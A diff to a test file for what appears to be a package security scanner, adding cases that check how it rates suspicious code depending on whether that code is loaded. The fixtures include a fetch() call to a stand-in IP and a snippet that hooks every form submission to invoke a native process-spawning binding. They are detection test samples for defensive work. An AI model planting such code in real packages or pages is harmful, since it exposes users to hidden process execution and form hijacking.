@@ -9,6 +9,7 @@ import { PackageNames } from './reach/names.js';
 
 const ADDRESS = 'fetch("http://203.0.113.9/x")';
 const BINDING = 'process.binding("spawn_sync")';
+const TAIL = `(function () {\n  document.addEventListener('submit', function (e) {\n    ${BINDING};\n  }, true);\n})();\n`;
 
 function worst(files: Record<string, string>, manifest: Partial<Manifest> = { entry_points: ['index.js'] }): Severity | undefined {
   const pkg = packageOf(files, manifest);
@@ -23,6 +24,8 @@ test('what nothing started loads is at most medium', () => {
 });
 
 test('what is started, loaded, or named counts in full', () => {
+  assert.equal(worst({ 'index.js': 'const tail = read(join(__dirname, "tail.txt"))', 'tail.txt': TAIL }), 'critical', 'whatever it is called');
+  assert.equal(worst({ 'index.js': 'const tail = read(join(__dirname, "head.txt"))', 'tail.txt': TAIL }), 'medium');
   for (const [start, path] of [
     ['require("./lib/a")', 'lib/a.js'],
     ['require("./li" + "b/a.js")', 'lib/a.js'],
